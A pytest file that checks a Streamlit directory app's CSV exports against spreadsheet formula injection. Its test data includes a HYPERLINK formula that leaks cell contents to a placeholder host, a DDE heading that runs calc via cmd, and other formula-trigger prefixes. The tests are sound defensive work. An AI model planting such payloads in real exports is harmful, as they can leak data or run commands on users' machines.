"""Every CSV the app hands out is formula-safe, Streamlit's own table download included."""

from __future__ import annotations

import csv
import io
import re
import sqlite3
from datetime import UTC, datetime
from pathlib import Path

import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from directory.listings.export import safe_frame, table_csv_bytes
from ui.registry import PAGES

from .conftest import ROOT, copy_demo

FORMULAS = [
    '=HYPERLINK("https://example.org/?leak="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def test_table_csv_neutralises_every_formula_cell_and_heading():
    frame = pd.DataFrame({"=cmd|' /C calc'!A0": FORMULAS, "n": range(len(FORMULAS))})
    rows = list(csv.reader(io.StringIO(table_csv_bytes(frame).decode("utf-8"))))
    assert rows[0][0].startswith("'=")
    assert all(r[0].startswith("'") for r in rows[1:])
    assert [r[1] for r in rows[1:]] == [str(i) for i in range(len(FORMULAS))]
    assert safe_frame(pd.DataFrame({"x": [-5, 2.5]}))["x"].tolist() == [-5, 2.5]


def test_only_the_safe_wrapper_calls_st_dataframe_and_no_page_writes_csv_itself():
    for path in [ROOT / "app.py", *(ROOT / "ui").rglob("*.py")]:
        source = path.read_text(encoding="utf-8")
        if path.name != "widgets.py":
            assert "st.dataframe(" not in source, path
            assert "st.data_editor(" not in source, path
        assert not re.search(r"\.to_csv\(|csv\.writer|DictWriter", source), path


@pytest.fixture(scope="module")
def formula_db(demo_template, tmp_path_factory) -> Path:
    db = copy_demo(demo_template, tmp_path_factory.mktemp("csv") / "demo.db")
    with sqlite3.connect(db) as conn:
        conn.execute("UPDATE service SET name = ? || name", [FORMULAS[0]])
        conn.execute("UPDATE organization SET name = ? || name", ["@SUM(A1:A9)"])
    return db


def test_the_shown_table_behind_the_toolbar_download_is_safe(monkeypatch, formula_db):
    monkeypatch.setenv("PUNTE_DB", str(formula_db))
    spec = next(p for p in PAGES if p.slug == "listings")  # the directory table, by name
    at = AppTest.from_file(str(spec.path), default_timeout=60)
    at.session_state["lang"] = "ro"
    at.session_state["auth"] = {
        "username": "demo-admin",
        "last_seen": datetime.now(UTC).isoformat(),
    }
    at.run()
    assert not at.exception
    cells = [
        v
        for frame in at.dataframe
        for col in frame.value.columns
        for v in frame.value[col]
        if isinstance(v, str)
    ]
    assert any(v.startswith("'=HYPERLINK") for v in cells)
    assert not [v for v in cells if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
